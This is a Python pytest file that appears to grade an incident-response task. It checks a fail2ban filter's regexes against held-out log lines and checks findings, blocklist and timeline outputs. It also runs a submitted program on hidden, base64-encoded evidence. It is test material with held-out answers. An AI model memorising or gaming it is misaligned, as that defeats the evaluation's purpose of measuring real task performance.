HOSTRX = r"(?P<host>[0-9A-Fa-f.:]*[0-9A-Fa-f])"


def filter_problems(path, cases):
    """How a fail2ban filter judges held-out lines: a failregex matches (<HOST>: the address), no ignoreregex does."""
    if not os.path.isfile(path):
        return [f"{path} is missing"]
    cp = configparser.ConfigParser(interpolation=None, strict=False)
    try:
        cp.read(path)
        fail = cp.get("Definition", "failregex")
        ign = cp.get("Definition", "ignoreregex", fallback="")
    except (configparser.Error, UnicodeDecodeError) as e:
        return [f"{path}: not a filter with [Definition] failregex ({e})"]
    def compiled(text):
        out = []
        for l in text.splitlines():
            l = l.strip()
            if l:
                out.append(re.compile(l.replace("<HOST>", HOSTRX, 1).replace("<HOST>", "(?:[0-9A-Fa-f.:]+)")))
        return out
    try:
        fails, ignores = compiled(fail), compiled(ign)
    except re.error as e:
        return [f"{path}: a regex does not compile: {e}"]
    bad = []
    for line, want in cases:
        got = None
        if not any(i.search(line) for i in ignores):
            for f in fails:
                m = f.search(line)
                if m:
                    try:
                        a = ipaddress.ip_address(m.group("host"))
                        got = str(getattr(a, "ipv4_mapped", None) or a)
                    except (ValueError, IndexError):
                        got = "(no address)"
                    break
        if got != want:
            bad.append((line[:160], got, want))
    if bad:
        return [f"{path}: {len(bad)} of {len(cases)} held-out lines judged wrong (line, flagged, expected): {bad[:3]}"]
    return []


def test_findings_on_this_host():
    msgs = problems("/srv/ir/out", {"findings": VISIBLE["findings"]}, FMT)
    assert not msgs, "\n".join(msgs)


@pytest.mark.parametrize("part", [k for k in ("blocklist", "timeline") if k in VISIBLE])
def test_deliverable_on_this_host(part):
    msgs = problems("/srv/ir/out", {"findings": {}, part: VISIBLE[part]}, FMT)
    assert not msgs, "\n".join(msgs)


@pytest.mark.parametrize("case", range(len(HIDDEN)), ids=[h["host"] for h in HIDDEN])
def test_hunt_on_held_out_evidence(case):
    h = HIDDEN[case]
    src = tempfile.mkdtemp()
    ev = os.path.join(src, h["host"])
    os.makedirs(ev)
    for name, data in h["files"].items():
        with open(os.path.join(ev, name), "wb") as f:
            f.write(gzip.decompress(base64.b64decode(data)))
    assert os.path.isfile(PROG), f"{PROG} is missing"
    ev = tg_guard.give(ev)
    prog = tg_guard.give(PROG)
    os.chmod(prog, 0o755)
    out = os.path.join(tg_guard.scratch("out"), "result")
    p = tg_guard.run([prog, ev, out], timeout=120)
    assert p.returncode == 0, f"{PROG} failed on held-out evidence: {p.stderr[-800:]}"
    msgs = problems(out, h["truth"], FMT)
    assert not msgs, f"held-out host {h['host']}: " + "\n".join(msgs)
